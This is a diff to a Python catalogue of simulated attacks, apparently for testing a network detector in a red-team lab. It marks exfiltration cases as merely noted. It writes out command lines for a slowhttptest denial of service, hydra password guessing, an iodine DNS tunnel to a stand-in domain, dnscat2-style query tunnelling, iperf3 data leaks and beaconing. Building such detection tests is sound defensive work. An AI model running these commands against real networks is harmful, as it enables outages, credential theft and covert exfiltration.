@@ -1,10 +1,11 @@
 """Slow requests, password guessing, tunnels, leaks: what needs few packets. Data only."""
 
 from loomidi_lab.redteam.catalogue.places import ATTACKER, INSIDE, LOGIN, WEB, forged
-from loomidi_lab.redteam.records import Attack, Command, Expect
+from loomidi_lab.redteam.records import NOTED, Attack, Command, Expect
 
 _SLOW = ("slow_requests",)
-_LEAK = ("exfiltration",)
+_LEAK = ("exfiltration",)  # told only: the shield hears what comes in, and what leaves is not cut by its source
+_READER = "who reads slowly what was answered is not told from a slow line"
 
 
 def _slow(*words: str, path: str = "") -> Command:
@@ -28,7 +29,8 @@ QUIET = (
     Attack(
         "slow-read", "T1499.002", "slow",
         (_slow("-X", "-w", "10", "-y", "20", "-n", "1", "-z", "8", path="large"),), (ATTACKER,),
-        Expect(_SLOW, within_s=60), seconds=24, says="slow reading over 200 connections", needs=("slowhttptest",),
+        Expect(_SLOW, within_s=60, missed=_READER), seconds=24, says="slow reading over 200 connections",
+        needs=("slowhttptest",),
     ),
     Attack(
         "guessing", "T1110.001", "guessing", (_hydra("-t", "16"),), (ATTACKER,),
@@ -51,29 +53,29 @@ QUIET = (
             ("iodine", "-f", "-r", "-P", "secret", WEB, "t.example"),
             ("sh", "-c", "sleep 5; exec ping -q -i 0.02 -s 300 -c 1000 10.99.0.1"),
         ),
-        (ATTACKER,), Expect(_LEAK, within_s=30), seconds=18, says="iodine through the real name server",
+        (ATTACKER,), Expect(_LEAK, act=NOTED, within_s=30), seconds=18, says="iodine through the real name server",
         servers=("iodined",), needs=("iodine", "iodined", "dnsmasq"),
     ),
     Attack(
         "tunnel-questions", "T1071.004", "leaving",
         (forged("questions", source=ATTACKER, target=WEB, seconds=8, pps=25),), (ATTACKER,),
-        Expect(_LEAK, within_s=15), seconds=12, says="names that carry data, as dnscat2 asks", needs=("dnsmasq",),
-        short=True,
+        Expect(_LEAK, act=NOTED, within_s=15), seconds=12, says="names that carry data, as dnscat2 asks",
+        needs=("dnsmasq",), short=True,
     ),
     Attack(
         "leak-bulk", "T1048", "leaving",
         (("iperf3", "-c", WEB, "-B", INSIDE, "-b", "60M", "-t", "5", "--connect-timeout", "3000"),), (INSIDE,),
-        Expect(_LEAK, within_s=15), seconds=9, says="35 MB from an inside host", servers=("iperf3",),
+        Expect(_LEAK, act=NOTED, within_s=15), seconds=9, says="35 MB from an inside host", servers=("iperf3",),
         needs=("iperf3",),
     ),
     Attack(
         "leak-slow", "T1048", "slow",
         (("iperf3", "-c", WEB, "-B", INSIDE, "-b", "2M", "-t", "40", "--connect-timeout", "3000"),), (INSIDE,),
-        Expect(_LEAK, within_s=60), seconds=44, says="2 Mbit/s from an inside host", servers=("iperf3",),
+        Expect(_LEAK, act=NOTED, within_s=60), seconds=44, says="2 Mbit/s from an inside host", servers=("iperf3",),
         needs=("iperf3",),
     ),
     Attack(
         "beacon", "T1071", "slow", (forged("posts", source=INSIDE, target=WEB, every_s=9, seconds=140),), (INSIDE,),
-        Expect(("beaconing",), within_s=150), seconds=150, says="a small request every 9 s",
+        Expect(("beaconing",), act=NOTED, within_s=150), seconds=150, says="a small request every 9 s",
     ),
 )  # fmt: skip
